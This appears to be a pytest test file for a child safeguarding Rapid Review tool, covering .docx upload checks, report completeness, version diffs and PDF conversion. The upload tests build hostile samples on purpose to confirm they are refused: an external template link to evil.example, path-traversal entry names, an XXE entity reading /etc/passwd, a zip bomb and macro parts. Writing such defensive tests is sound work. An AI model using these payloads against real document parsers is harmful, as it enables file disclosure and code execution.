"""Uploaded .docx checks, report completeness, comparing versions, and the warm PDF converter (no LibreOffice)."""

from __future__ import annotations

import copy
import io
import json
import stat
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xmlrpc.server import SimpleXMLRPCServer

import docx
import pytest

from rapidreview.documents import pdf
from rapidreview.documents.compare import field_changes, paragraph_changes
from rapidreview.documents.completeness import missing_items
from rapidreview.documents.docx_check import UploadRejected, check_docx, max_upload_bytes
from rapidreview.documents.render import render_docx

REPO = Path(__file__).resolve().parents[1]
FIXTURE = Path(__file__).parent / "fixtures" / "report_context.json"
NOT_DOCX = "The selected file must be a Word document (.docx)"
MACROS = "The selected file contains macros"


def context() -> dict[str, Any]:
    data = json.loads(FIXTURE.read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    for row in data["sign_offs"]:  # the fixture abbreviates; build_report_context writes the partner's full name
        row["partner"] = {"Police": "Metropolitan Police Service"}.get(row["partner"], row["partner"])
    return data


def word_file(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repack(data: bytes, *, add: dict[str, bytes] | None = None,
           replace: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """A copy of a .docx zip with parts added, replaced or dropped."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info.filename)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def content_types(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("[Content_Types].xml").decode()


# -- checking uploads ----------------------------------------------------------------------------------------

def test_a_word_document_is_accepted_and_its_paragraphs_read_in_order() -> None:
    checked = check_docx("Report v3.docx", word_file("First paragraph", "", "Second  paragraph"))
    assert checked.paragraphs == ["First paragraph", "Second  paragraph"]


def test_a_rendered_report_is_accepted_with_its_tables_text(tmp_path: Path) -> None:
    out = tmp_path / "report.docx"
    render_docx(REPO / "templates" / "rapid_review_report.docx", context(), out)
    paragraphs = check_docx(out.name, out.read_bytes()).paragraphs
    assert "Child Q (pseudonym)" in paragraphs and "11. Decision on a Local Child Safeguarding Practice Review" in paragraphs


@pytest.mark.parametrize(("filename", "data", "message"), [
    ("", b"", "Select a Word document (.docx) to upload"),
    ("empty.docx", b"", "The selected file is empty"),
    ("notes.txt", b"hello", NOT_DOCX),
    ("notes.docx", b"plain text, not a zip", NOT_DOCX),
    ("report.pdf", b"%PDF-1.7", NOT_DOCX),
    ("report.docm", b"PK\x03\x04", MACROS),
    ("report.DOCM", b"PK\x03\x04", MACROS),
])
def test_files_that_are_not_word_documents_are_refused(filename: str, data: bytes, message: str) -> None:
    with pytest.raises(UploadRejected, match=message.replace("(", r"\(").replace(")", r"\)").replace(".", r"\.")):
        check_docx(filename, data)


def test_a_file_over_the_limit_is_refused_naming_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    data = word_file("x" * 10)
    with pytest.raises(UploadRejected, match="The selected file must be smaller than 1 KB"):
        check_docx("big.docx", data, limit=1024)
    monkeypatch.setenv("RAPIDREVIEW_UPLOAD_MAX_MB", "2")
    assert max_upload_bytes() == 2 * 1024 * 1024
    monkeypatch.setenv("RAPIDREVIEW_UPLOAD_MAX_MB", "nonsense")
    assert max_upload_bytes() == 10 * 1024 * 1024


def test_macros_and_active_content_are_refused() -> None:
    base = word_file("Edited report")
    types = content_types(base)
    cases = {
        "vba project": repack(base, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macro-enabled content type": repack(base, replace={"[Content_Types].xml": types.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml").encode()}),
        "activeX control": repack(base, add={"word/activeX/activeX1.xml": b"<ax/>"}),
        "embedded macro workbook": repack(base, add={"word/embeddings/Book1.xlsm": b"PK"}),
    }
    for name, data in cases.items():
        with pytest.raises(UploadRejected, match=MACROS):
            check_docx("report.docx", data)
        assert name


def test_a_link_to_an_outside_template_is_refused() -> None:
    base = word_file("Edited report")
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        rels = archive.read("word/_rels/document.xml.rels").decode()
    injected = rels.replace("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                            'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                            'TargetMode="External"/></Relationships>')
    with pytest.raises(UploadRejected, match="links to a file outside it"):
        check_docx("report.docx", repack(base, replace={"word/_rels/document.xml.rels": injected.encode()}))


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/passwd", "word/../../evil.xml", "C:/evil.xml", "word\\evil.xml"])
def test_names_that_climb_out_of_the_archive_are_refused(name: str) -> None:
    with pytest.raises(UploadRejected, match="unsafe names"):
        check_docx("report.docx", repack(word_file("x"), add={name: b"x"}))


def test_a_zip_bomb_is_refused_before_it_is_read() -> None:
    bomb = repack(word_file("x"), add={"word/media/padding.bin": b"\0" * (60 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024  # sixty megabytes of zeros pack into a few dozen kilobytes
    with pytest.raises(UploadRejected, match="its contents are too large"):
        check_docx("report.docx", bomb, limit=1024 * 1024)


def test_a_zip_without_a_word_body_or_with_another_content_type_is_refused() -> None:
    base = word_file("x")
    with pytest.raises(UploadRejected, match=NOT_DOCX.replace("(", r"\(").replace(")", r"\)")):
        check_docx("report.docx", repack(base, drop=("word/document.xml",)))
    template = content_types(base).replace("wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml")
    with pytest.raises(UploadRejected, match=NOT_DOCX.replace("(", r"\(").replace(")", r"\)")):
        check_docx("report.docx", repack(base, replace={"[Content_Types].xml": template.encode()}))


def test_xml_entities_are_not_expanded() -> None:
    base = word_file("x")
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        body = archive.read("word/document.xml").decode()
    evil = body.replace("<w:document", '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document', 1)
    evil = evil.replace(">x<", ">&x;<")
    data = repack(base, replace={"word/document.xml": evil.encode()})
    try:
        paragraphs = check_docx("report.docx", data).paragraphs
    except UploadRejected:
        return  # refusing it is as good
    assert not any("root:" in p for p in paragraphs)


# -- completeness --------------------------------------------------------------------------------------------

def test_a_complete_report_lacks_nothing() -> None:
    assert missing_items(context()) == []


def test_gaps_in_the_process_data_are_named() -> None:
    ctx = context()
    ctx["child"].update(date_of_birth="", age=None, sex="  ", disability="Not recorded")
    ctx["agencies"], ctx["report"]["agency_involvement"] = [], ""
    ctx["outcome"].update(decided=False, lcspr_recommended=None)
    ctx["chair"]["name"] = ""
    assert missing_items(ctx) == [
        "Child's date of birth or age",
        "Child's sex",
        "Child's disability (write \"None known\" if there is none)",
        "Name of the chair of the Rapid Review",
        "Agencies involved: no agency is recorded and the report does not describe agency involvement",
        "Decision on whether the criteria for a Local Child Safeguarding Practice Review are met",
    ]


def test_not_known_is_an_answer_and_an_age_stands_for_a_date_of_birth() -> None:
    ctx = context()
    ctx["child"].update(date_of_birth="", age="14 months", ethnicity="Not known")
    assert missing_items(ctx) == []


def test_agencies_that_did_not_return_need_the_involvement_described() -> None:
    ctx = context()
    for agency in ctx["agencies"]:
        agency["status"] = "Not returned"
    ctx["report"]["agency_involvement"] = None
    assert missing_items(ctx) == ["Agencies involved: no agency returned its information sharing form and the report "
                                  "does not describe the nature and period of agencies' contact"]
    ctx["report"]["agency_involvement"] = "The GP saw the family twice (March and April 2026)."
    assert missing_items(ctx) == []


def test_a_recommended_review_needs_its_grounds_and_rationale() -> None:
    ctx = context()
    ctx["outcome"].update(grounds=[], rationale=" ")
    assert missing_items(ctx) == [
        "Grounds on which the criteria for a Local Child Safeguarding Practice Review are met",
        "Rationale for the decision on a Local Child Safeguarding Practice Review"]


def test_the_signed_report_needs_all_three_sign_offs() -> None:
    ctx = context()
    assert ctx["document"]["kind"] == "signed_report"
    ctx["sign_offs"] = [s for s in ctx["sign_offs"] if s["partner"] != "Metropolitan Police Service"]
    ctx["sign_offs"][0]["at"] = ""
    ctx["sign_offs"][1]["decision"] = "Returned"
    assert missing_items(ctx) == [
        "Sign-off by the Local Authority: the signatory's date",
        "Sign-off by the Metropolitan Police Service",
        "Sign-off by the Integrated Care Board: approval (the report was returned)"]
    ctx["document"]["kind"] = "final_report"
    assert missing_items(ctx) == []  # sign-off comes after the final report


# -- comparing versions ----------------------------------------------------------------------------------------

def test_versions_are_compared_field_by_field_with_a_word_diff() -> None:
    old = context()
    new = copy.deepcopy(old)
    new["document"].update(version=5, generated_at="13 June 2026, 09:00")  # bookkeeping is not a change
    new["child"]["sex"] = "Female"
    new["report"]["concerns"] = old["report"]["concerns"].replace("Bruising", "Repeated bruising")
    new["agencies"].append({"name": "Oak Primary School", "status": "Returned", "returned_at": "1 June 2026",
                            "involvement": "Reception class"})
    new["report"]["inequalities"] = ""
    changes = {c.label: c for c in field_changes(old, new)}

    assert changes["Child › Sex"].old == "Male" and changes["Child › Sex"].new == "Female"
    concerns = changes["Report › Concerns"]
    assert [s.text for s in concerns.segments if s.op == "insert"] == ["Repeated bruising"]
    assert [s.text for s in concerns.segments if s.op == "delete"] == ["Bruising"]
    assert changes["Agencies involved › Oak Primary School"].status == "added"
    assert changes["Agencies involved › Oak Primary School › Involvement"].new == "Reception class"
    assert changes["Report › Race, ethnicity, disability and other inequalities"].new == ""
    assert not [label for label in changes if label.startswith("Document")]


def test_uploaded_versions_are_compared_paragraph_by_paragraph() -> None:
    changes = paragraph_changes(["Title", "The family moved in 2025.", "End"],
                                ["Title", "The family moved in 2024.", "A new paragraph", "End"])
    assert [(c.label, c.status) for c in changes] == [("Paragraph 2", "changed")]
    assert "2024" in changes[0].new and "A new paragraph" in changes[0].new
    assert [(c.status, c.old) for c in paragraph_changes(["a", "b"], ["a"])] == [("removed", "b")]


# -- the warm converter ----------------------------------------------------------------------------------------

class FakeUnoserver:
    """An XML-RPC server with unoserver's convert(); ``behaviour`` picks its answer."""

    def __init__(self) -> None:
        self.behaviour = "ok"
        self.calls: list[tuple[Any, ...]] = []
        self.release = threading.Event()
        self.server = SimpleXMLRPCServer(("127.0.0.1", 0), allow_none=True, logRequests=False)
        self.server.register_function(self.convert, "convert")
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server.server_address[1]}"

    def convert(self, *args: Any) -> Any:
        self.calls.append(args)
        if self.behaviour == "hang":
            self.release.wait(10)
        if self.behaviour == "fail":
            raise RuntimeError("Could not load document <remote file> using the default filter.")
        return b"%PDF-1.7 converted warm" if self.behaviour == "ok" else b"<html>not a pdf</html>"


@pytest.fixture
def unoserver(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeUnoserver]:
    fake = FakeUnoserver()
    fake.thread.start()
    monkeypatch.setenv("RAPIDREVIEW_UNOSERVER", fake.address)
    pdf._warm.reset()
    yield fake
    fake.release.set()
    fake.server.shutdown()
    fake.server.server_close()
    pdf._warm.reset()


@pytest.fixture
def cold_soffice(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A stand-in soffice that writes a small PDF where LibreOffice would, and logs each call."""
    log = tmp_path / "cold-calls"
    script = tmp_path / "fake-soffice"
    script.write_text("#!/bin/sh\n"
                      f"echo called >> {log}\n"
                      'while [ "$1" != "--outdir" ]; do shift; done\n'
                      'out="$2"; src="$3"; name=$(basename "$src" .docx)\n'
                      'printf "%%PDF-1.7 converted cold" > "$out/$name.pdf"\n')
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("RAPIDREVIEW_SOFFICE", str(script))
    return log


def source(tmp_path: Path) -> Path:
    path = tmp_path / "report.docx"
    path.write_bytes(word_file("Report"))
    return path


def test_the_warm_converter_is_used_when_configured(tmp_path: Path, unoserver: FakeUnoserver, cold_soffice: Path) -> None:
    out = pdf.convert_to_pdf(source(tmp_path), tmp_path / "out")
    assert out.read_bytes() == b"%PDF-1.7 converted warm" and out.name == "report.pdf"
    [(inpath, indata, outpath, convert_to, filtername, options, *_)] = unoserver.calls
    assert inpath is None and outpath is None and indata.data.startswith(b"PK")  # the bytes travel, not paths
    assert (convert_to, filtername) == ("pdf", "writer_pdf_Export")
    assert set(options) == {"SelectPdfVersion=2", "UseTaggedPDF=true"}  # PDF/A-2b, tagged
    assert not cold_soffice.exists()


@pytest.mark.parametrize("behaviour", ["fail", "garbage"])
def test_a_failing_warm_converter_falls_back_to_a_cold_one(tmp_path: Path, unoserver: FakeUnoserver,
                                                           cold_soffice: Path, behaviour: str) -> None:
    unoserver.behaviour = behaviour
    out = pdf.convert_to_pdf(source(tmp_path), tmp_path / "out")
    assert out.read_bytes() == b"%PDF-1.7 converted cold"
    assert len(unoserver.calls) == 1 and cold_soffice.read_text().count("called") == 1


def test_a_hung_warm_converter_costs_one_timeout_then_is_left_alone(tmp_path: Path, unoserver: FakeUnoserver,
                                                                     cold_soffice: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    unoserver.behaviour = "hang"
    monkeypatch.setenv("RAPIDREVIEW_UNOSERVER_TIMEOUT", "1")
    assert pdf.convert_to_pdf(source(tmp_path), tmp_path / "a").read_bytes() == b"%PDF-1.7 converted cold"
    assert pdf.convert_to_pdf(source(tmp_path), tmp_path / "b").read_bytes() == b"%PDF-1.7 converted cold"
    assert len(unoserver.calls) == 1  # the second conversion did not wait for it again
    assert cold_soffice.read_text().count("called") == 2


def test_an_unreachable_warm_converter_falls_back(tmp_path: Path, cold_soffice: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAPIDREVIEW_UNOSERVER", "127.0.0.1:9")  # discard port: nothing listens
    pdf._warm.reset()
    try:
        assert pdf.convert_to_pdf(source(tmp_path), tmp_path / "out").read_bytes() == b"%PDF-1.7 converted cold"
    finally:
        pdf._warm.reset()


def test_when_both_converters_fail_the_error_is_clear_and_retryable(tmp_path: Path, unoserver: FakeUnoserver,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    unoserver.behaviour = "fail"
    crash = tmp_path / "crashing-soffice"
    crash.write_text("#!/bin/sh\necho 'soffice.bin: segmentation fault' >&2\nexit 139\n")
    crash.chmod(crash.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("RAPIDREVIEW_SOFFICE", str(crash))
    with pytest.raises(pdf.PdfConversionError, match="LibreOffice failed converting report.docx") as info:
        pdf.convert_to_pdf(source(tmp_path), tmp_path / "out")
    assert info.value.retryable is True
    assert "segmentation fault" in str(info.value)
